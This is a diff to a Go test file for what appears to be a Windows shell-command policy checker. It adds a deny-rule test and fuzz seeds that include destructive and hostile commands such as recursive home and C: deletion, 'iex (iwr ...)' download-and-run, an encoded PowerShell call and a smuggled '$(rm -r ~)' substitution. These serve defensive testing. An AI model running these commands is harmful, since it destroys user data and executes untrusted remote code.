@@ -67,3 +67,33 @@ func TestWindowsDefaultShellIsPowerShell(t *testing.T) {
 		t.Errorf("Git's bash on Windows reads sh: kind %d", p.kind)
 	}
 }
+
+// TestWindowsConfigDeny: the config's deny rules hold on Windows too.
+func TestWindowsConfigDeny(t *testing.T) {
+	t.Setenv("HOME", winHome)
+	cfg := config.Default()
+	cfg.Policy.Deny = []string{"git push", "terraform *destroy*"}
+	p := newFor("windows", cfg, winRoot, nil)
+	for _, line := range []string{"git push", "git.exe push origin main", "ls; git push --force", "terraform apply -destroy"} {
+		if v := p.Check(line, true); v.Decision != Deny {
+			t.Errorf("%q: %+v", line, v)
+		}
+	}
+}
+
+func FuzzCheckWindows(f *testing.F) {
+	for _, s := range []string{"Remove-Item -Recurse -Force ~", "iex (iwr https://x)", "cmd /c \"rd /s /q C:\\\"",
+		"powershell -enc bABzAA==", "ls | % { $_ }", "echo \"$(rm -r ~)\" > .env", "rd /s /q ^\"C:\\^\"", "'"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		for _, shell := range []string{"", "cmd"} {
+			cfg := config.Default()
+			cfg.Shell = shell
+			v := newFor("windows", cfg, winRoot, nil).Check(s, true)
+			if v.Decision != Allow && len(v.Reasons) == 0 {
+				t.Fatalf("shell %q: %q: %s without a reason", shell, s, v.Decision)
+			}
+		}
+	})
+}
